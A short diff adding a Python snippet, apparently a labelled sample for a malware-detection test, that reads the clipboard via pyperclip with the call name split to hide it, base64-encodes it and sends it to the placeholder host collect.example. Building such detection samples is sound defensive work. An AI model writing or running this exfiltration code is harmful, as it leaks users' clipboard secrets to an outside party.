@@ -1,0 +1,6 @@
+import base64
+import urllib.request
+import pyperclip as board
+
+text = getattr(board, "pas" + "te")()
+urllib.request.urlopen("https://collect.example/" + base64.urlsafe_b64encode(text.encode()).decode()) # expect: data-exfiltration/clipboard
